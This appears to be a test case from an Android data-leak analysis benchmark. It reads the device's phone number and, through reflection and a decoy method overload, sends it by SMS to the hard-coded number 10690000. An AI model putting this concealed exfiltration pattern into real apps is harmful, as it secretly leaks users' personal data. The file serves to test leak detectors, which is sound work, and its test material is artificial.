// about       The method found by reflection is inherited from the super class, which sends.
// leak        PHONE_NUMBER sms
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.util.Log;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    try {
      Class<?> type = Class.forName("cn.example.flow.TextChannel");
      Object channel = type.getConstructor().newInstance();
      type.getMethod("deliver", String.class).invoke(channel, phone.getLine1Number());
    } catch (ReflectiveOperationException e) {
      finish();
    }
  }
}

class Channel {
  public void deliver(String text) {
    SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
  }
}

class TextChannel extends Channel {
  public TextChannel() {}

  // Nothing overrides the other class's method under this name.
  public void deliver(CharSequence text) {
    Log.i("flow", "nothing delivered");
  }
}
